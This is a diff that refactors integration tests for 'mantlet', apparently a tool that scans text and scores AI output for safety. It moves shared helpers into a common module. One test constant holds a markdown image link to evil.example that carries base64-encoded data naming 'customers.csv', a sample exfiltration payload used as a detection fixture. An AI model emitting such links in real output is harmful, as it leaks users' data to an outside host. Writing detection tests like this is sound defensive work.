@@ -1,81 +1,21 @@
 //! The `mantlet` command: formats, exit codes, and what it does with input that is not what it should be.
 #![cfg(feature = "cli")]
 
+mod common;
+
 use std::fs;
 use std::io::{BufRead, BufReader, Write};
-use std::path::{Path, PathBuf};
-use std::process::{Child, Command, Output, Stdio};
+use std::path::Path;
+use std::process::{Child, Output, Stdio};
 use std::sync::mpsc;
 use std::time::Duration;
 
+use common::Folder;
+use common::command::{code, command, errors, lines, mantlet_reading as mantlet};
 use serde_json::Value;
 
-/// A folder of its own, removed at the end.
-struct Folder(PathBuf);
-
-impl Folder {
-    fn new(name: &str) -> Folder {
-        let path = std::env::temp_dir().join(format!("mantlet-cli-{name}-{}", std::process::id()));
-        fs::create_dir_all(&path).unwrap();
-        Folder(path)
-    }
-
-    fn file(&self, name: &str, content: impl AsRef<[u8]>) -> PathBuf {
-        let path = self.0.join(name);
-        fs::write(&path, content).unwrap();
-        path
-    }
-}
-
-impl Drop for Folder {
-    fn drop(&mut self) {
-        let _ = fs::remove_dir_all(&self.0);
-    }
-}
-
 fn spawn(arguments: &[&str]) -> Child {
-    Command::new(env!("CARGO_BIN_EXE_mantlet"))
-        .args(arguments)
-        .stdin(Stdio::piped())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        .spawn()
-        .unwrap()
-}
-
-fn mantlet(arguments: &[&str], stdin: &[u8]) -> Output {
-    let mut child = spawn(arguments);
-    let mut pipe = child.stdin.take().unwrap();
-    let stdin = stdin.to_vec();
-    let writing = std::thread::spawn(move || {
-        // A command that refuses its arguments does not read.
-        let _ = pipe.write_all(&stdin);
-    });
-    let output = child.wait_with_output().unwrap();
-    writing.join().unwrap();
-    output
-}
-
-fn code(output: &Output) -> i32 {
-    output.status.code().unwrap()
-}
-
-fn lines(output: &Output) -> Vec<Value> {
-    let text = std::str::from_utf8(&output.stdout).unwrap();
-    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
-}
-
-fn errors(output: &Output) -> &str {
-    std::str::from_utf8(&output.stderr).unwrap()
-}
-
-/// The names in a folder, in order.
-fn names(folder: &Folder) -> Vec<String> {
-    let entries = fs::read_dir(&folder.0).unwrap();
-    let mut names: Vec<String> =
-        entries.map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
-    names.sort();
-    names
+    command(arguments).stdin(Stdio::piped()).spawn().unwrap()
 }
 
 /// One of each kind that is not shown as it is, beside the controls below U+0020.
@@ -86,8 +26,8 @@ fn has_hidden(text: &str) -> bool {
     text.contains(|c| c == '\u{1b}' || c == '\u{7}' || HIDDEN.contains(c))
 }
 
-fn path(path: &Path) -> &str {
-    path.to_str().unwrap()
+fn path(path: &(impl AsRef<Path> + ?Sized)) -> &str {
+    path.as_ref().to_str().unwrap()
 }
 
 const IMAGE: &str = "Done. ![x](https://evil.example/p.png?d=Y3VzdG9tZXJzLmNzdg==)";
@@ -395,8 +335,7 @@ fn scan_takes_a_name_that_is_not_utf8() {
     let folder = Folder::new("name");
     let name = folder.0.join(std::ffi::OsString::from_vec(b"a\xffb.txt".to_vec()));
     fs::write(&name, "hello").unwrap();
-    let mut command = Command::new(env!("CARGO_BIN_EXE_mantlet"));
-    let output = command.args(["scan", "--format", "json"]).arg(&name).output().unwrap();
+    let output = command(&["scan", "--format", "json"]).arg(&name).output().unwrap();
     assert_eq!(code(&output), 0, "{}", errors(&output));
     assert!(lines(&output)[0]["path"].as_str().unwrap().ends_with("a\u{fffd}b.txt"));
 }
@@ -456,17 +395,14 @@ fn score_replaces_its_output_only_by_a_complete_one() {
     let cut = folder.file("cut.gz", &whole[..whole.len() / 2]);
     let whole = folder.file("whole.gz", whole);
     let result = folder.file("out.jsonl", "old");
-    let score = |input: &Path, output: &Path| {
-        mantlet(
-            &["score", "--evaluator", "output_safety", "--input", path(input), "--output", path(output)],
-            b"",
-        )
+    let score = |input: &str, output: &str| {
+        mantlet(&["score", "--evaluator", "output_safety", "--input", input, "--output", output], b"")
     };
     let output = score(&cut, &result);
     assert_eq!(code(&output), 2);
     assert!(errors(&output).contains("cut.gz: "), "{}", errors(&output));
     assert_eq!(fs::read_to_string(&result).unwrap(), "old");
-    assert_eq!(names(&folder), ["cut.gz", "out.jsonl", "whole.gz"]);
+    assert_eq!(folder.names(), ["cut.gz", "out.jsonl", "whole.gz"]);
 
     let mut child =
         spawn(&["score", "--evaluator", "output_safety", "--output", path(&result), "--input", "-"]);
@@ -478,8 +414,8 @@ fn score_replaces_its_output_only_by_a_complete_one() {
 
     assert_eq!(code(&score(&whole, &result)), 0);
     assert_eq!(fs::read_to_string(&result).unwrap().lines().count(), 20_000);
-    assert_eq!(code(&score(&whole, &folder.0)), 2);
-    assert_eq!(code(&score(&whole, &folder.0.join("missing/out"))), 2);
+    assert_eq!(code(&score(&whole, path(&folder.0))), 2);
+    assert_eq!(code(&score(&whole, &folder.path("missing/out"))), 2);
 }
 
 #[cfg(unix)]
@@ -500,7 +436,7 @@ fn score_writes_through_links_with_the_same_permissions_and_to_devices() {
     assert!(link.is_symlink());
     assert!(fs::read_to_string(&result).unwrap().contains("\"score\""));
     assert_eq!(fs::metadata(&result).unwrap().permissions().mode() & 0o777, 0o640);
-    assert_eq!(names(&folder), ["link", "out", "rows"]);
+    assert_eq!(folder.names(), ["link", "out", "rows"]);
 }
 
 #[cfg(target_os = "linux")]
